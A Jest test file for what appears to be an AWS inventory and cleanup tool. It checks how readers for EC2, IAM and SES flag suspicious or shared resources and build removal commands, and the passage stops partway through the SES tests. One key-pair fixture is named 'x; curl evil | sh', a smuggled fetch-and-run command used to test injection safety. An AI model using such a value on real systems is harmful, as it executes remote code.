import {
  CloudTrailClient,
  DescribeTrailsCommand,
  GetEventSelectorsCommand,
  GetTrailStatusCommand,
} from '@aws-sdk/client-cloudtrail';
import {
  DescribeImageAttributeCommand,
  DescribeImagesCommand,
  DescribeInstancesCommand,
  DescribeKeyPairsCommand,
  DescribeSecurityGroupsCommand,
  DescribeSnapshotAttributeCommand,
  DescribeSnapshotsCommand,
  DescribeSpotInstanceRequestsCommand,
  DescribeVolumesCommand,
  EC2Client,
  type Instance,
} from '@aws-sdk/client-ec2';
import {
  GetAccountAuthorizationDetailsCommand,
  GetLoginProfileCommand,
  GetOpenIDConnectProviderCommand,
  IAMClient,
  ListAccessKeysCommand,
  ListOpenIDConnectProvidersCommand,
  ListSAMLProvidersCommand,
} from '@aws-sdk/client-iam';
import {
  GetPolicyCommand,
  LambdaClient,
  ListFunctionsCommand,
  ListFunctionUrlConfigsCommand,
} from '@aws-sdk/client-lambda';
import { GetInstancesCommand, LightsailClient } from '@aws-sdk/client-lightsail';
import {
  GetAccountSendingEnabledCommand,
  GetIdentityVerificationAttributesCommand,
  GetSendQuotaCommand,
  ListIdentitiesCommand,
  SESClient,
} from '@aws-sdk/client-ses';
import { mockClient } from 'aws-sdk-client-mock';
import 'aws-sdk-client-mock-jest';
import { inventoryRegion } from '../../lambdas/inventory/inventory-region';
import { managementCoverage, readCloudTrail } from '../../lambdas/inventory/readers/cloudtrail';
import { mapLimit, type ReaderContext } from '../../lambdas/inventory/readers/common';
import {
  instanceCreatedAt,
  MAX_SHARING_CHECKS,
  openIngress,
  readEc2,
} from '../../lambdas/inventory/readers/ec2';
import { externalTrust, parsePolicyDocument, readIam } from '../../lambdas/inventory/readers/iam';
import { publicStatements, readLambda } from '../../lambdas/inventory/readers/lambda';
import { readLightsail } from '../../lambdas/inventory/readers/lightsail';
import { readSes } from '../../lambdas/inventory/readers/ses';
import type { InventoryItem } from '../../lambdas/inventory/types';

const ACCOUNT = '111122223333';
const OUTSIDER = '999988887777';
const REGION = 'eu-west-1';
const SINCE = new Date('2026-11-20T00:00:00Z');
const NEW = new Date('2026-11-21T08:00:00Z');
const OLD = new Date('2025-03-01T08:00:00Z');
const credentials = { accessKeyId: 'testing', secretAccessKey: 'testing' };

/** An SDK error as the client raises it for a code it does not model. */
const awsError = (name: string, httpStatusCode = 400) =>
  Object.assign(new Error(`${name} from the test`), { name, $metadata: { httpStatusCode } });

const sleeps: number[] = [];
function ctx<C>(clients: C, region = REGION): ReaderContext<C> {
  return {
    region,
    accountId: ACCOUNT,
    since: SINCE,
    clients,
    sleep: async (ms) => {
      sleeps.push(ms);
    },
    random: () => 0.5,
  };
}

const byType = (items: InventoryItem[], type: string) => items.filter((i) => i.type === type);
const ids = (items: InventoryItem[]) => items.map((i) => i.id);

beforeEach(() => {
  sleeps.length = 0;
});

describe('EC2 reader', () => {
  const client = new EC2Client({ region: REGION, credentials });
  const ec2 = mockClient(client);

  /** Every part answers empty unless a test says otherwise. */
  beforeEach(() => {
    ec2.reset();
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [] });
    ec2.on(DescribeSpotInstanceRequestsCommand).resolves({ SpotInstanceRequests: [] });
    ec2.on(DescribeKeyPairsCommand).resolves({ KeyPairs: [] });
    ec2.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [] });
    ec2.on(DescribeImagesCommand).resolves({ Images: [] });
    ec2.on(DescribeSnapshotsCommand).resolves({ Snapshots: [] });
    ec2.on(DescribeVolumesCommand).resolves({ Volumes: [] });
  });

  const instance = (id: string, state: string, launch: Date, extra: Partial<Instance> = {}): Instance => ({
    InstanceId: id,
    InstanceType: 'g4dn.xlarge',
    State: { Name: state as 'running' },
    LaunchTime: launch,
    ...extra,
  });

  it('reads every page of instances, in every state, but not old terminated ones', async () => {
    ec2
      .on(DescribeInstancesCommand, { NextToken: undefined })
      .resolves({
        Reservations: [
          {
            Instances: [
              instance('i-running', 'running', NEW, {
                InstanceLifecycle: 'spot',
                SpotInstanceRequestId: 'sir-1',
                Tags: [{ Key: 'aws:autoscaling:groupName', Value: 'miners' }],
              }),
              instance('i-stopped', 'stopped', NEW, { InstanceType: 'p5.48xlarge' }),
            ],
          },
        ],
        NextToken: 'page-2',
      })
      .on(DescribeInstancesCommand, { NextToken: 'page-2' })
      .resolves({
        Reservations: [
          {
            Instances: [
              instance('i-old-terminated', 'terminated', OLD),
              instance('i-new-terminated', 'terminated', NEW),
            ],
          },
        ],
      });

    const result = await readEc2(ctx({ ec2: client }));

    expect(result).toMatchObject({ service: 'ec2', region: REGION, complete: true });
    expect(ec2).toHaveReceivedCommandTimes(DescribeInstancesCommand, 2);
    const instances = byType(result.items, 'instance');
    expect(ids(instances)).toEqual(['i-running', 'i-stopped', 'i-new-terminated']);
    const [running, stopped, terminated] = instances;
    expect(running).toMatchObject({
      createdByKey: 'unknown',
      createdAt: NEW.toISOString(),
      estimatedHourlyUsd: 0.526,
      arn: `arn:aws:ec2:${REGION}:${ACCOUNT}:instance/i-running`,
      consoleUrl: `https://console.aws.amazon.com/ec2/home?region=${REGION}#InstanceDetails:instanceId=i-running`,
      details: expect.objectContaining({
        lifecycle: 'spot',
        spotInstanceRequestId: 'sir-1',
        autoScalingGroup: 'miners',
      }),
    });
    // The group and the Spot request would replace the instance: they go first.
    expect(running.cleanup).toBe(
      `aws autoscaling delete-auto-scaling-group --region ${REGION} --auto-scaling-group-name miners --force-delete && ` +
        `aws ec2 cancel-spot-instance-requests --region ${REGION} --spot-instance-request-ids sir-1 && ` +
        `aws ec2 modify-instance-attribute --region ${REGION} --instance-id i-running --no-disable-api-termination && ` +
        `aws ec2 terminate-instances --region ${REGION} --instance-ids i-running`,
    );
    // A stopped instance bills no compute.
    expect(stopped.estimatedHourlyUsd).toBeUndefined();
    expect(terminated.cleanup).toBe('# nothing to remove');
  });

  it('dates an instance by its first launch, not by its last start', () => {
    const restarted = instance('i-restarted', 'running', NEW, {
      NetworkInterfaces: [{ Attachment: { DeviceIndex: 0, AttachTime: OLD } }],
    });
    expect(instanceCreatedAt(restarted)).toBe(OLD.toISOString());
  });

  it('keeps live Spot requests and new closed ones', async () => {
    ec2.on(DescribeSpotInstanceRequestsCommand).resolves({
      SpotInstanceRequests: [
        { SpotInstanceRequestId: 'sir-open', State: 'open', Type: 'persistent', CreateTime: OLD },
        { SpotInstanceRequestId: 'sir-old-cancelled', State: 'cancelled', CreateTime: OLD },
        { SpotInstanceRequestId: 'sir-new-closed', State: 'closed', CreateTime: NEW },
      ],
    });

    const spot = byType((await readEc2(ctx({ ec2: client }))).items, 'spot-request');

    expect(ids(spot)).toEqual(['sir-open', 'sir-new-closed']);
    expect(spot[0].cleanup).toBe(
      `aws ec2 cancel-spot-instance-requests --region ${REGION} --spot-instance-request-ids sir-open`,
    );
  });

  it('lists key pairs with their creation time and deletes them by id', async () => {
    ec2.on(DescribeKeyPairsCommand).resolves({
      KeyPairs: [{ KeyName: 'x; curl evil | sh', KeyPairId: 'key-0abc', CreateTime: NEW }],
    });

    const [pair] = (await readEc2(ctx({ ec2: client }))).items;

    expect(pair).toMatchObject({ type: 'key-pair', id: 'x; curl evil | sh', createdAt: NEW.toISOString() });
    expect(pair.cleanup).toBe(`aws ec2 delete-key-pair --region ${REGION} --key-pair-id key-0abc`);
  });

  it('finds groups open to the internet and revokes exactly the open rules', async () => {
    ec2.on(DescribeSecurityGroupsCommand).resolves({
      SecurityGroups: [
        {
          GroupId: 'sg-open',
          GroupName: 'launch-wizard-1',
          IpPermissions: [
            {
              IpProtocol: 'tcp',
              FromPort: 22,
              ToPort: 22,
              IpRanges: [{ CidrIp: '0.0.0.0/0' }, { CidrIp: '10.0.0.0/8' }],
            },
            { IpProtocol: '-1', Ipv6Ranges: [{ CidrIpv6: '::/0' }] },
            { IpProtocol: 'tcp', FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: '192.0.2.0/24' }] },
          ],
        },
        {
          GroupId: 'sg-private',
          IpPermissions: [{ IpProtocol: 'tcp', IpRanges: [{ CidrIp: '10.0.0.0/8' }] }],
        },
      ],
    });

    const groups = byType((await readEc2(ctx({ ec2: client }))).items, 'security-group');

    expect(ids(groups)).toEqual(['sg-open']);
    expect(groups[0].createdAt).toBeUndefined();
    expect(groups[0].details).toMatchObject({
      openTo: ['0.0.0.0/0', '::/0'],
      openPorts: ['tcp 22', 'all traffic'],
    });
    expect(groups[0].cleanup).toBe(
      `aws ec2 revoke-security-group-ingress --region ${REGION} --group-id sg-open --ip-permissions ` +
        `'[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0"}]},{"IpProtocol":"-1","Ipv6Ranges":[{"CidrIpv6":"::/0"}]}]'`,
    );
  });

  it('openIngress ignores rules that are not open to everyone', () => {
    expect(openIngress([{ IpProtocol: 'udp', IpRanges: [{ CidrIp: '0.0.0.1/32' }] }])).toEqual([]);
    expect(openIngress(undefined)).toEqual([]);
  });

  it('reports snapshots shared outside the account, whatever their age, and new ones', async () => {
    ec2.on(DescribeSnapshotsCommand).resolves({
      Snapshots: [
        { SnapshotId: 'snap-old-private', StartTime: OLD },
        { SnapshotId: 'snap-old-shared', StartTime: OLD, VolumeSize: 100 },
        { SnapshotId: 'snap-old-public', StartTime: OLD },
        { SnapshotId: 'snap-new', StartTime: NEW },
      ],
    });
    const permissions: Record<string, { UserId?: string; Group?: 'all' }[]> = {
      // The owner's own id in the list is not sharing.
      'snap-old-private': [{ UserId: ACCOUNT }],
      'snap-old-shared': [{ UserId: OUTSIDER }],
      'snap-old-public': [{ Group: 'all' }],
      'snap-new': [],
    };
    ec2.on(DescribeSnapshotAttributeCommand).callsFake((input: { SnapshotId: string }) => ({
      SnapshotId: input.SnapshotId,
      CreateVolumePermissions: permissions[input.SnapshotId],
    }));

    const result = await readEc2(ctx({ ec2: client }));
    const snapshots = byType(result.items, 'snapshot');

    expect(ec2).toHaveReceivedCommandWith(DescribeSnapshotsCommand, { OwnerIds: ['self'] });
    expect(ids(snapshots).sort()).toEqual(['snap-new', 'snap-old-public', 'snap-old-shared']);
    const find = (id: string) => snapshots.find((s) => s.id === id) as InventoryItem;
    expect(find('snap-old-shared').details).toMatchObject({
      sharing: { public: false, accounts: [OUTSIDER] },
    });
    expect(find('snap-old-shared').cleanup).toBe(
      `aws ec2 modify-snapshot-attribute --region ${REGION} --snapshot-id snap-old-shared --attribute createVolumePermission --operation-type remove --user-ids ${OUTSIDER}`,
    );
    expect(find('snap-old-public').cleanup).toContain('--operation-type remove --group-names all');
    expect(find('snap-new').cleanup).toBe(
      `aws ec2 delete-snapshot --region ${REGION} --snapshot-id snap-new`,
    );
  });

  it('reports public AMIs and new ones, deregistering new ones with their snapshots', async () => {
    ec2.on(DescribeImagesCommand).resolves({
      Images: [
        { ImageId: 'ami-public', CreationDate: OLD.toISOString(), Public: true },
        {
          ImageId: 'ami-new',
          CreationDate: NEW.toISOString(),
          BlockDeviceMappings: [{ Ebs: { SnapshotId: 'snap-root' } }],
        },
        { ImageId: 'ami-org', CreationDate: OLD.toISOString() },
        { ImageId: 'ami-old', CreationDate: OLD.toISOString() },
      ],
    });
    ec2
      .on(DescribeImageAttributeCommand)
      .resolves({ LaunchPermissions: [] })
      .on(DescribeImageAttributeCommand, { ImageId: 'ami-org' })
      .resolves({
        LaunchPermissions: [{ OrganizationArn: 'arn:aws:organizations::999988887777:organization/o-x' }],
      });

    const images = byType((await readEc2(ctx({ ec2: client }))).items, 'image');

    expect(ec2).toHaveReceivedCommandWith(DescribeImagesCommand, { Owners: ['self'] });
    expect(ids(images).sort()).toEqual(['ami-new', 'ami-org', 'ami-public']);
    const find = (id: string) => images.find((s) => s.id === id) as InventoryItem;
    expect(find('ami-public').cleanup).toBe(
      `aws ec2 modify-image-attribute --region ${REGION} --image-id ami-public --launch-permission 'Remove=[{Group=all}]'`,
    );
    expect(find('ami-org').cleanup).toContain(
      "'Remove=[{OrganizationArn=arn:aws:organizations::999988887777:organization/o-x}]'",
    );
    expect(find('ami-new').cleanup).toBe(
      `aws ec2 deregister-image --region ${REGION} --image-id ami-new && aws ec2 delete-snapshot --region ${REGION} --snapshot-id snap-root`,
    );
  });

  it('caps sharing checks, new snapshots first, and says how many were not checked', async () => {
    const old = Array.from({ length: MAX_SHARING_CHECKS + 2 }, (_, i) => ({
      SnapshotId: `snap-old-${i}`,
      StartTime: OLD,
    }));
    ec2
      .on(DescribeSnapshotsCommand)
      .resolves({ Snapshots: [...old, { SnapshotId: 'snap-new', StartTime: NEW }] });
    ec2.on(DescribeSnapshotAttributeCommand).resolves({ CreateVolumePermissions: [] });

    const result = await readEc2(ctx({ ec2: client }));

    expect(ec2).toHaveReceivedCommandTimes(DescribeSnapshotAttributeCommand, MAX_SHARING_CHECKS);
    expect(ec2).toHaveReceivedCommandWith(DescribeSnapshotAttributeCommand, { SnapshotId: 'snap-new' });
    expect(ids(byType(result.items, 'snapshot'))).toEqual(['snap-new']);
    expect(result.complete).toBe(false);
    expect(result.error).toContain('sharing of 3 older snapshots not checked');
  });

  it('keeps only new volumes and detaches attached ones before deleting', async () => {
    ec2.on(DescribeVolumesCommand).resolves({
      Volumes: [
        { VolumeId: 'vol-old', CreateTime: OLD },
        { VolumeId: 'vol-new', CreateTime: NEW, Attachments: [{ InstanceId: 'i-1' }] },
      ],
    });

    const volumes = byType((await readEc2(ctx({ ec2: client }))).items, 'volume');

    expect(ids(volumes)).toEqual(['vol-new']);
    expect(volumes[0].details).toMatchObject({ attachedTo: ['i-1'] });
    expect(volumes[0].cleanup).toContain(
      `aws ec2 wait volume-available --region ${REGION} --volume-ids vol-new`,
    );
  });

  it('says a root volume goes with its instance instead of detaching it from a running one', async () => {
    ec2.on(DescribeVolumesCommand).resolves({
      Volumes: [
        {
          VolumeId: 'vol-root',
          CreateTime: NEW,
          Attachments: [{ InstanceId: 'i-miner', DeleteOnTermination: true }],
        },
      ],
    });

    const [volume] = byType((await readEc2(ctx({ ec2: client }))).items, 'volume');

    expect(volume.cleanup).toMatch(
      new RegExp(
        `^aws ec2 wait instance-terminated --region ${REGION} --instance-ids i-miner  # the volume is deleted with its instance`,
      ),
    );
    expect(volume.cleanup).not.toContain('detach-volume');
  });

  it('records a refused part and still reads the others', async () => {
    ec2
      .on(DescribeInstancesCommand)
      .resolves({ Reservations: [{ Instances: [instance('i-1', 'running', NEW)] }] });
    ec2.on(DescribeSnapshotsCommand).rejects(awsError('UnauthorizedOperation', 403));

    const result = await readEc2(ctx({ ec2: client }));

    expect(result.complete).toBe(false);
    expect(result.error).toMatch(/^snapshots: ec2:DescribeSnapshots: UnauthorizedOperation/);
    expect(ids(result.items)).toEqual(['i-1']);
    expect(ec2).toHaveReceivedCommand(DescribeVolumesCommand);
  });

  it('asks a refused per-resource call once, and still lists what it can judge without it', async () => {
    ec2.on(DescribeSnapshotsCommand).resolves({
      Snapshots: [
        { SnapshotId: 'snap-new', StartTime: NEW },
        ...Array.from({ length: 30 }, (_, i) => ({ SnapshotId: `snap-old-${i}`, StartTime: OLD })),
      ],
    });
    ec2.on(DescribeSnapshotAttributeCommand).rejects(awsError('UnauthorizedOperation', 403));

    const result = await readEc2(ctx({ ec2: client }));

    // Only the calls already in flight (8 at a time) when the first refusal came back.
    expect(ec2.commandCalls(DescribeSnapshotAttributeCommand).length).toBeLessThanOrEqual(8);
    expect(ids(result.items)).toEqual(['snap-new']);
    expect(result.error).toBe(
      'ec2:DescribeSnapshotAttribute: UnauthorizedOperation: UnauthorizedOperation from the test',
    );
  });

  it('stops at the first call in a Region the account has not opted in to', async () => {
    ec2.on(DescribeInstancesCommand).rejects(awsError('OptInRequired', 401));

    const result = await readEc2(ctx({ ec2: client }));

    expect(result).toMatchObject({ complete: false, apiCalls: 1, items: [] });
    expect(result.error).toContain('ec2:DescribeInstances: OptInRequired');
  });

  it('treats an endpoint that does not resolve as a Region without the service', async () => {
    ec2
      .on(DescribeInstancesCommand)
      .rejects(Object.assign(new Error('getaddrinfo ENOTFOUND'), { code: 'ENOTFOUND' }));

    const result = await readEc2(ctx({ ec2: client }));

    expect(result).toMatchObject({ complete: false, apiCalls: 1 });
  });

  it('retries throttling with jittered backoff', async () => {
    ec2
      .on(DescribeKeyPairsCommand)
      .rejectsOnce(awsError('RequestLimitExceeded', 503))
      .rejectsOnce(awsError('RequestLimitExceeded', 503))
      .resolves({ KeyPairs: [{ KeyName: 'k', CreateTime: NEW }] });

    const result = await readEc2(ctx({ ec2: client }));

    expect(result.complete).toBe(true);
    expect(ids(result.items)).toEqual(['k']);
    // Full jitter with random() = 0.5: half of 250 ms, then half of 500 ms.
    expect(sleeps).toEqual([125, 250]);
    expect(result.apiCalls).toBe(9);
  });

  it('records a part still throttled after the last attempt', async () => {
    ec2.on(DescribeVolumesCommand).rejects(awsError('ThrottlingException'));

    const result = await readEc2({ ...ctx({ ec2: client }), maxAttempts: 3 });

    expect(result.complete).toBe(false);
    expect(result.error).toContain(
      'volumes: ec2:DescribeVolumes: TransientAwsError: still failing after 3 attempts',
    );
    expect(ec2).toHaveReceivedCommandTimes(DescribeVolumesCommand, 3);
  });

  it('lets an unexpected error propagate', async () => {
    ec2.on(DescribeKeyPairsCommand).rejects(awsError('InvalidParameterValue'));

    await expect(readEc2(ctx({ ec2: client }))).rejects.toThrow('InvalidParameterValue');
  });

  it('stops paging when the service repeats a token', async () => {
    ec2.on(DescribeVolumesCommand).resolves({ Volumes: [], NextToken: 'same' });

    const result = await readEc2(ctx({ ec2: client }));

    expect(ec2).toHaveReceivedCommandTimes(DescribeVolumesCommand, 2);
    expect(result.error).toContain('repeated a page token');
  });
});

describe('IAM reader', () => {
  const client = new IAMClient({ region: 'us-east-1', credentials });
  const iam = mockClient(client);
  const encoded = (doc: unknown) => encodeURIComponent(JSON.stringify(doc));
  const trust = (principal: unknown, extra: Record<string, unknown> = {}) =>
    encoded({
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Principal: principal, Action: 'sts:AssumeRole', ...extra }],
    });

  beforeEach(() => {
    iam.reset();
    iam.on(ListAccessKeysCommand).resolves({ AccessKeyMetadata: [] });
    iam.on(GetLoginProfileCommand).rejects(awsError('NoSuchEntityException', 404));
    iam.on(ListOpenIDConnectProvidersCommand).resolves({ OpenIDConnectProviderList: [] });
    iam.on(ListSAMLProvidersCommand).resolves({ SAMLProviderList: [] });
    iam.on(GetAccountAuthorizationDetailsCommand).resolves({});
  });

  it('reads IAM once, in us-east-1', async () => {
    const result = await readIam(ctx({ iam: client }, 'eu-west-1'));

    expect(result).toEqual(expect.objectContaining({ complete: true, apiCalls: 0, items: [] }));
    expect(result.skipped).toContain('global');
    expect(iam).not.toHaveReceivedAnyCommand();
  });

  it('lists new users, and every access key and password with its date', async () => {
    iam
      .on(GetAccountAuthorizationDetailsCommand, { Marker: undefined })
      .resolves({
        UserDetailList: [
          {
            UserName: 'backdoor',
            Arn: `arn:aws:iam::${ACCOUNT}:user/backdoor`,
            CreateDate: NEW,
            AttachedManagedPolicies: [{ PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }],
            UserPolicyList: [{ PolicyName: 'inline' }],
            GroupList: ['admins'],
          },
        ],
        IsTruncated: true,
        Marker: 'm2',
      })
      .on(GetAccountAuthorizationDetailsCommand, { Marker: 'm2' })
      .resolves({ UserDetailList: [{ UserName: 'ci-deployer', CreateDate: OLD }], IsTruncated: false });
    iam
      .on(ListAccessKeysCommand, { UserName: 'backdoor' })
      .resolves({ AccessKeyMetadata: [{ AccessKeyId: 'AKIABACKDOOR', CreateDate: NEW, Status: 'Active' }] })
      .on(ListAccessKeysCommand, { UserName: 'ci-deployer' })
      .resolves({
        AccessKeyMetadata: [
          { AccessKeyId: 'AKIAOLDKEY', CreateDate: OLD },
          { AccessKeyId: 'AKIAMINTED', CreateDate: NEW },
        ],
      });
    iam
      .on(GetLoginProfileCommand, { UserName: 'backdoor' })
      .resolves({ LoginProfile: { UserName: 'backdoor', CreateDate: NEW } });

    const result = await readIam(ctx({ iam: client }, 'us-east-1'));

    expect(result.complete).toBe(true);
    expect(iam).toHaveReceivedCommandWith(GetAccountAuthorizationDetailsCommand, {
      Filter: ['User', 'Group', 'Role', 'LocalManagedPolicy'],
    });
    expect(result.items.map((i) => `${i.type}:${i.id}`).sort()).toEqual([
      'access-key:AKIABACKDOOR',
      'access-key:AKIAMINTED',
      // Old: attribution drops it unless the key re-enabled it.
      'access-key:AKIAOLDKEY',
      'login-profile:backdoor',
      'user:backdoor',
    ]);
    expect(result.items.find((i) => i.id === 'AKIAOLDKEY')?.createdAt).toBe(OLD.toISOString());
    expect(result.items.every((i) => i.region === 'global')).toBe(true);
    const user = result.items.find((i) => i.type === 'user') as InventoryItem;
    expect(user.cleanup).toBe(
      [
        'aws iam delete-login-profile --user-name backdoor',
        'aws iam delete-access-key --user-name backdoor --access-key-id AKIABACKDOOR',
        'aws iam detach-user-policy --user-name backdoor --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
        'aws iam delete-user-policy --user-name backdoor --policy-name inline',
        'aws iam remove-user-from-group --user-name backdoor --group-name admins',
        'aws iam delete-user --user-name backdoor',
      ].join(' && '),
    );
    expect(result.items.find((i) => i.id === 'AKIAMINTED')).toMatchObject({
      cleanup: 'aws iam delete-access-key --user-name ci-deployer --access-key-id AKIAMINTED',
      details: { userName: 'ci-deployer' },
    });
  });

  it('lists roles outsiders can assume, and new roles, but not new service-linked ones', async () => {
    iam.on(GetAccountAuthorizationDetailsCommand).resolves({
      RoleDetailList: [
        {
          RoleName: 'vendor-access',
          CreateDate: OLD,
          AssumeRolePolicyDocument: trust(
            { AWS: `arn:aws:iam::${OUTSIDER}:root` },
            {
              Condition: { StringEquals: { 'sts:ExternalId': 'x' } },
            },
          ),
          InstanceProfileList: [{ InstanceProfileName: 'vendor-profile' } as never],
          AttachedManagedPolicies: [{ PolicyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' }],
        },
        { RoleName: 'internal', CreateDate: OLD, AssumeRolePolicyDocument: trust({ AWS: ACCOUNT }) },
        {
          RoleName: 'lambda-role',
          CreateDate: NEW,
          AssumeRolePolicyDocument: trust({ Service: 'lambda.amazonaws.com' }),
        },
        {
          RoleName: 'AWSServiceRoleForEC2Spot',
          Path: '/aws-service-role/spot.amazonaws.com/',
          CreateDate: NEW,
          AssumeRolePolicyDocument: trust({ Service: 'spot.amazonaws.com' }),
        },
      ],
    });

    const roles = byType((await readIam(ctx({ iam: client }, 'us-east-1'))).items, 'role');

    expect(ids(roles)).toEqual(['vendor-access', 'lambda-role']);
    expect(roles[0].details?.externalTrust).toEqual([
      { principal: `arn:aws:iam::${OUTSIDER}:root`, why: 'other-account', conditionKeys: ['sts:ExternalId'] },
    ]);
    expect(roles[0].cleanup).toBe(
      'aws iam remove-role-from-instance-profile --instance-profile-name vendor-profile --role-name vendor-access && ' +
        'aws iam detach-role-policy --role-name vendor-access --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess && ' +
        'aws iam delete-role --role-name vendor-access',
    );
  });

  it('lists new customer managed policies, and new versions of old ones', async () => {
    const arn = `arn:aws:iam::${ACCOUNT}:policy/ops`;
    iam.on(GetAccountAuthorizationDetailsCommand).resolves({
      UserDetailList: [
        {
          UserName: 'alice',
          CreateDate: OLD,
          AttachedManagedPolicies: [{ PolicyArn: `arn:aws:iam::${ACCOUNT}:policy/new-admin` }],
        },
      ],
      Policies: [
        {
          PolicyName: 'new-admin',
          Arn: `arn:aws:iam::${ACCOUNT}:policy/new-admin`,
          CreateDate: NEW,
          DefaultVersionId: 'v1',
          PolicyVersionList: [{ VersionId: 'v1', IsDefaultVersion: true, CreateDate: NEW }],
        },
        {
          PolicyName: 'ops',
          Arn: arn,
          CreateDate: OLD,
          PolicyVersionList: [
            {
              VersionId: 'v3',
              IsDefaultVersion: true,
              CreateDate: NEW,
              Document: encoded({ Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }),
            },
            { VersionId: 'v1', IsDefaultVersion: false, CreateDate: OLD },
            { VersionId: 'v2', IsDefaultVersion: false, CreateDate: OLD },
          ],
        },
        {
          PolicyName: 'old',
          Arn: `arn:aws:iam::${ACCOUNT}:policy/old`,
          CreateDate: OLD,
          PolicyVersionList: [{ VersionId: 'v1', CreateDate: OLD }],
        },
      ],
    });

    const items = (await readIam(ctx({ iam: client }, 'us-east-1'))).items;

    expect(items.map((i) => `${i.type}:${i.id}`)).toEqual(['policy:new-admin', 'policy-version:ops:v3']);
    expect(items[0].cleanup).toBe(
      `aws iam detach-user-policy --user-name alice --policy-arn arn:aws:iam::${ACCOUNT}:policy/new-admin && aws iam delete-policy --policy-arn arn:aws:iam::${ACCOUNT}:policy/new-admin`,
    );
    // The default version cannot be deleted: v2 becomes the default first.
    expect(items[1].cleanup).toBe(
      `aws iam set-default-policy-version --policy-arn ${arn} --version-id v2 && aws iam delete-policy-version --policy-arn ${arn} --version-id v3`,
    );
    expect(items[1].details).toMatchObject({ isDefault: true, document: { Statement: [{ Action: '*' }] } });
  });

  it('lists new identity providers', async () => {
    const oidcNew = `arn:aws:iam::${ACCOUNT}:oidc-provider/token.actions.example.com`;
    const oidcOld = `arn:aws:iam::${ACCOUNT}:oidc-provider/old.example.com`;
    iam
      .on(ListOpenIDConnectProvidersCommand)
      .resolves({ OpenIDConnectProviderList: [{ Arn: oidcNew }, { Arn: oidcOld }] });
    iam
      .on(GetOpenIDConnectProviderCommand, { OpenIDConnectProviderArn: oidcNew })
      .resolves({ CreateDate: NEW, Url: 'token.actions.example.com' })
      .on(GetOpenIDConnectProviderCommand, { OpenIDConnectProviderArn: oidcOld })
      .resolves({ CreateDate: OLD });
    iam.on(ListSAMLProvidersCommand).resolves({
      SAMLProviderList: [{ Arn: `arn:aws:iam::${ACCOUNT}:saml-provider/evil`, CreateDate: NEW }],
    });

    const items = (await readIam(ctx({ iam: client }, 'us-east-1'))).items;

    expect(items.map((i) => i.type)).toEqual(['oidc-provider', 'saml-provider']);
    expect(items[0].cleanup).toBe(
      `aws iam delete-open-id-connect-provider --open-id-connect-provider-arn ${oidcNew}`,
    );
  });

  it('records refused per-user calls and still lists roles', async () => {
    iam.on(GetAccountAuthorizationDetailsCommand).resolves({
      UserDetailList: [{ UserName: 'u', CreateDate: OLD }],
      RoleDetailList: [{ RoleName: 'open', CreateDate: OLD, AssumeRolePolicyDocument: trust('*') }],
    });
    iam.on(ListAccessKeysCommand).rejects(awsError('AccessDenied', 403));

    const result = await readIam(ctx({ iam: client }, 'us-east-1'));

    expect(result.complete).toBe(false);
    expect(result.error).toContain('users: iam:ListAccessKeys: AccessDenied');
    expect(ids(result.items)).toEqual(['open']);
  });
});

describe('trust policy parsing', () => {
  const doc = (statement: unknown) => JSON.stringify({ Version: '2012-10-17', Statement: statement });

  it('reads URL-encoded and plain documents alike', () => {
    const plain = doc([{ Effect: 'Allow', Principal: '*', Action: 'sts:AssumeRole' }]);
    expect(parsePolicyDocument(encodeURIComponent(plain))).toEqual(JSON.parse(plain));
    expect(parsePolicyDocument(plain)).toEqual(JSON.parse(plain));
    expect(parsePolicyDocument('%E0%A4%A')).toBeUndefined();
    expect(parsePolicyDocument(undefined)).toBeUndefined();
  });

  it('names everyone, other accounts and federated principals, and nobody inside the account', () => {
    const found = externalTrust(
      encodeURIComponent(
        doc([
          {
            Effect: 'Allow',
            Principal: {
              AWS: [
                `arn:aws:iam::${ACCOUNT}:root`,
                ACCOUNT,
                `arn:aws:iam::${ACCOUNT}:role/ci`,
                OUTSIDER,
                `arn:aws:sts::${OUTSIDER}:assumed-role/r/s`,
                '*',
              ],
              Service: ['ec2.amazonaws.com'],
            },
            Action: 'sts:AssumeRole',
          },
          {
            Effect: 'Allow',
            Principal: {
              Federated: `arn:aws:iam::${ACCOUNT}:oidc-provider/token.actions.githubusercontent.com`,
            },
            Action: 'sts:AssumeRoleWithWebIdentity',
            Condition: { StringLike: { 'token.actions.githubusercontent.com:sub': 'repo:attacker/*' } },
          },
          { Effect: 'Deny', Principal: '*', Action: 'sts:AssumeRole' },
          {
            Effect: 'Allow',
            NotPrincipal: { AWS: `arn:aws:iam::${ACCOUNT}:root` },
            Action: 'sts:AssumeRole',
          },
        ]),
      ),
      ACCOUNT,
    );

    expect(found.map((f) => [f.why, f.principal])).toEqual([
      ['other-account', OUTSIDER],
      ['other-account', `arn:aws:sts::${OUTSIDER}:assumed-role/r/s`],
      ['everyone', '*'],
      ['federated', `arn:aws:iam::${ACCOUNT}:oidc-provider/token.actions.githubusercontent.com`],
      ['everyone-except', JSON.stringify({ AWS: `arn:aws:iam::${ACCOUNT}:root` })],
    ]);
    expect(found[3].conditionKeys).toEqual(['token.actions.githubusercontent.com:sub']);
  });

  it('accepts a single statement object and other partitions', () => {
    const single = JSON.stringify({
      Statement: { Effect: 'Allow', Principal: { AWS: `arn:aws-us-gov:iam::${OUTSIDER}:root` } },
    });
    expect(externalTrust(single, ACCOUNT)).toHaveLength(1);
    expect(externalTrust('not json', ACCOUNT)).toEqual([]);
  });
});

describe('SES reader', () => {
  const client = new SESClient({ region: REGION, credentials });
  const ses = mockClient(client);

  beforeEach(() => {
    ses.reset();
    ses.on(GetSendQuotaCommand).resolves({ Max24HourSend: 200, SentLast24Hours: 0, MaxSendRate: 1 });
  });

  it('lists identities with their verification status, 100 per verification call', async () => {
    const identities = [...Array.from({ length: 120 }, (_, i) => `user${i}@example.com`), 'example.org'];
    ses
      .on(ListIdentitiesCommand, { NextToken: undefined })
      .resolves({ Identities: identities.slice(0, 100), NextToken: 't2' })
      .on(ListIdentitiesCommand, { NextToken: 't2' })
      .resolves({ Identities: identities.slice(100) });
